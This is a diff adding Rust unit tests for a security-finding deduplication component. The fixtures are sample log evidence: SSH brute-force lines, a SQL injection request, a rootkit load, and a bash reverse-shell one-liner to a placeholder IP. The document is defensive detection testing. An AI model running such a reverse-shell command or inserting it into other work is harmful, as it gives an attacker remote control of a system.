@@ -1,0 +1,303 @@
+use jiff::Timestamp;
+
+use super::*;
+use crate::base::stream_name::StreamName;
+use crate::domain::finding::{Evidence, Finding, FrameRef, ModelRef, Observation, Severity};
+
+pub(crate) fn subject(category: Category, title: &str, quotes: &[&str]) -> Subject {
+    let evidence = quotes.iter().map(|quote| Evidence {
+        quote: (*quote).to_owned(),
+        bounds: None,
+        grounded: Some(true),
+    });
+    let observation = Observation {
+        severity: Severity::High,
+        confidence: 0.9,
+        category,
+        title: title.to_owned(),
+        detail: String::new(),
+        evidence: evidence.collect(),
+        mitre: vec![],
+        recommended_action: String::new(),
+    };
+    let frame = FrameRef {
+        seq: 1,
+        pts_ms: 0,
+        sha256: String::new(),
+    };
+    let model = ModelRef {
+        provider: "p".into(),
+        name: "n".into(),
+        version: "v".into(),
+        prompt: String::new(),
+    };
+    let stream = StreamName::new("team").unwrap();
+    let at = Timestamp::UNIX_EPOCH;
+    Subject::of(&Finding::new(
+        "SecOps",
+        stream,
+        at,
+        frame,
+        observation,
+        model,
+    ))
+}
+
+fn same(a: &Subject, b: &Subject) -> bool {
+    let (there, back) = (a.likeness(b), b.likeness(a));
+    assert_eq!(there.is_some(), back.is_some(), "{a:?}\n{b:?}");
+    there.is_some()
+}
+
+const FAILED: &str = "Failed password for admin from 203.0.113.45 port 51502 ssh2";
+
+#[test]
+fn wording_makes_no_difference() {
+    let first = subject(Category::Intrusion, "Burst of failed logins", &[FAILED]);
+    for (category, title, quotes) in [
+        (
+            Category::Anomaly,
+            "Someone hammers the admin account",
+            &["Failed password for admin from 203.0.113.45 port 60001 ssh2"][..],
+        ),
+        (
+            Category::Intrusion,
+            "Password guessing against web-01",
+            &["10:02:11 Fai1ed passw0rd for admin from 203.0.113.45"],
+        ),
+        (
+            Category::Intrusion,
+            "Brute force succeeded",
+            &["Accepted password for admin from 203.0.113.45 port 51544 ssh2"],
+        ),
+        (
+            Category::Intrusion,
+            "Credential stuffing from 203.0.113.45",
+            &[],
+        ),
+        (
+            Category::Architecture,
+            "No lockout after repeated failures",
+            &[FAILED],
+        ),
+    ] {
+        assert!(same(&first, &subject(category, title, quotes)), "{title}");
+    }
+}
+
+#[test]
+fn two_attacks_on_one_host_stay_two() {
+    let c = Category::Intrusion;
+    let attacks = [
+        subject(c, "Attack on web-01", &[FAILED, "index=auth host=web-01"]),
+        subject(
+            c,
+            "Attack on web-01",
+            &[
+                "Failed password for admin from 198.51.100.7 port 4 ssh2",
+                "index=auth host=web-01",
+            ],
+        ),
+        subject(
+            c,
+            "Attack on web-01",
+            &["bash -i >& /dev/tcp/203.0.113.45/4444 0>&1", "host web-01"],
+        ),
+        subject(
+            c,
+            "Privilege escalation: admin became root on web-01 after a reverse shell",
+            &["sudo: admin : USER=root ; COMMAND=/bin/bash"],
+        ),
+        subject(
+            c,
+            "Suspicious activity on web-01",
+            &["GET /index.php?id=1 UNION SELECT name host=web-01"],
+        ),
+        subject(
+            c,
+            "Suspicious activity on web-01",
+            &["kernel module rootkit.ko inserted host=web-01"],
+        ),
+    ];
+    for (at, a) in attacks.iter().enumerate() {
+        for b in &attacks[at + 1..] {
+            assert!(!same(a, b), "{a:?}\n{b:?}");
+        }
+    }
+}
+
+#[test]
+fn the_same_trouble_elsewhere_is_another() {
+    let c = Category::Availability;
+    let line = |pod: &str| format!("{pod} 0/1 CrashLoopBackOff 27 (41s ago)");
+    let worker = subject(c, "Crash loop", &[&line("ledger-worker-59d7c8f6b-k2vnq")]);
+    let later = subject(
+        c,
+        "Worker restarts",
+        &[&line("ledger-worker-59d7c8f6b-x9hjr")],
+    );
+    let report = subject(c, "Crash loop", &[&line("ledger-report-6f8d9b7c4-x9hjr")]);
+    assert!(same(&worker, &later));
+    assert!(!same(&worker, &report));
+    let cve = |id: &str, host: &str| {
+        subject(
+            Category::Vulnerability,
+            "Vulnerable",
+            &[&format!("{id} in xz-utils 5.6.1 {host}")],
+        )
+    };
+    assert!(same(
+        &cve("CVE-2024-3094", "etl-runner-1"),
+        &cve("CVE-2024-3094", "etl-runner-2")
+    ));
+    assert!(!same(
+        &cve("CVE-2024-3094", "etl-runner-1"),
+        &cve("CVE-2023-4863", "etl-runner-1")
+    ));
+}
+
+#[test]
+fn what_was_only_seen_goes_by_its_title() {
+    let c = Category::Anomaly;
+    let first = subject(c, "Unusual dip in checkout orders graph", &[]);
+    assert!(same(
+        &first,
+        &subject(c, "Checkout orders dipping on the graph", &[])
+    ));
+    assert!(!same(&first, &subject(c, "Weird colours in the logo", &[])));
+    assert!(!same(
+        &first,
+        &subject(
+            Category::Policy,
+            "Unusual dip in checkout orders graph",
+            &[]
+        )
+    ));
+}
+
+#[test]
+fn a_summary_of_two_does_not_swallow_the_second() {
+    let c = Category::Intrusion;
+    let shell = "bash -i >& /dev/tcp/203.0.113.45/4444 0>&1";
+    let mut chain = subject(c, "Brute force, then a shell", &[FAILED]);
+    assert!(chain.absorb(&subject(
+        c,
+        "Chain",
+        &["Failed password for root from 203.0.113.45", shell]
+    )));
+    assert!(!same(&chain, &subject(c, "Reverse shell", &[shell])));
+}
+
+#[test]
+fn a_repeat_teaches_nothing() {
+    let mut first = subject(Category::Intrusion, "Burst", &[FAILED]);
+    let again = subject(
+        Category::Intrusion,
+        "Burst again",
+        &["Failed password for admin from 203.0.113.45 port 9 ssh2"],
+    );
+    assert!(!first.absorb(&again));
+    assert!(first.absorb(&subject(
+        Category::Intrusion,
+        "In",
+        &["Accepted password for admin from 203.0.113.45 port 51544 ssh2"]
+    )));
+}
+
+#[test]
+fn what_is_stored_reads_back_the_same() {
+    let mut subject = subject(Category::Intrusion, "Attack on web-01", &[FAILED]);
+    let text = serde_json::to_string(&subject).unwrap();
+    // Of a finding only.
+    subject.claimed.clear();
+    assert_eq!(serde_json::from_str::<Subject>(&text).unwrap(), subject);
+}
+
+/// A line of who does something and to whom.
+type Form<'a> = &'a dyn Fn(&str, &str) -> String;
+
+/// Whoever does it tells two attacks apart; whom it is done to, and who else is
+/// by, does not make them one.
+#[test]
+fn whoever_shares_a_victim_or_a_resolver_is_another() {
+    let c = Category::Intrusion;
+    let firewall =
+        |from: &str, to: &str| format!("port scan SRC={from} DST={to} PROTO=TCP dropped");
+    let flow = |from: &str, to: &str| format!("nmap {from}:40001 -> {to}:22 SYN denied");
+    let bare = |one: &str, other: &str| format!("port scan {one} {other} tcp denied");
+    let asked = |from: &str, to: &str| format!("{} answered by dns 192.0.2.53", bare(from, to));
+    let failed =
+        |from: &str, to: &str| format!("Failed password for admin from {from} on {to} ssh2");
+    let called = |to: &str, from: &str| format!("beacon {from}:50000 -> {to}:443 every 60 s");
+    let forms: [(&str, Form<'_>); 6] = [
+        ("firewall", &firewall),
+        ("flow", &flow),
+        ("bare", &bare),
+        ("asked", &asked),
+        ("failed", &failed),
+        ("beacon", &called),
+    ];
+    let (one, other, victim) = ("203.0.113.4", "198.51.100.7", "192.0.2.10");
+    for (name, line) in forms {
+        let scan = |by: &str, to: &str| subject(c, "Somebody at it", &[&line(by, to)]);
+        let first = scan(one, victim);
+        assert!(!same(&first, &scan(other, victim)), "{name}");
+        assert!(!same(&first, &scan("203.0.113.45", victim)), "{name}");
+        assert!(same(&first, &scan(one, victim)), "{name}");
+        // Told in other words, with whom it hits or without.
+        let told = subject(c, &format!("Trouble from {one}"), &[&line(one, victim)]);
+        assert!(same(&first, &told), "{name}");
+    }
+    // Where one tool tells the parts and the next does not.
+    let known = subject(c, "Scan", &[&firewall(one, victim)]);
+    assert!(!same(&known, &subject(c, "Scan", &[&bare(other, victim)])));
+    assert!(!same(&known, &subject(c, "Scan", &[&bare(victim, other)])));
+    assert!(same(&known, &subject(c, "Scan", &[&bare(victim, one)])));
+    assert!(same(
+        &known,
+        &subject(
+            c,
+            "Nmap port scan",
+            &[&format!("port scan against {victim} seen")]
+        )
+    ));
+}
+
+#[test]
+fn many_attackers_at_once_stay_together_while_they_overlap() {
+    let c = Category::Intrusion;
+    let lines = |range: std::ops::Range<u32>| -> Vec<String> {
+        range
+            .map(|n| format!("Failed password for admin from 203.0.113.{n} port 22 ssh2"))
+            .collect()
+    };
+    let spray = |range| {
+        let lines = lines(range);
+        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
+        subject(c, "Password spraying", &lines)
+    };
+    assert!(same(&spray(1..9), &spray(4..12)));
+    assert!(!same(&spray(1..9), &spray(8..16)));
+}
+
+#[test]
+fn names_that_ocr_reads_otherwise_are_the_same() {
+    let c = Category::Intrusion;
+    let first = subject(
+        c,
+        "Burst",
+        &["Failed password for admin from 203.0.113.45 on web-01"],
+    );
+    for line in [
+        "Failed password for adrnin from 203.0.113.45 on web-01",
+        "Fai1ed passw0rd for admin from 2O3.0.113.45 on web-O1",
+        "Failed password for admin from 203.o.ll3.45 on web-0l",
+    ] {
+        assert!(same(&first, &subject(c, "Burst", &[line])), "{line}");
+        assert_eq!(
+            first.stranger(&subject(c, "Burst", &[line])),
+            None,
+            "{line}"
+        );
+    }
+}
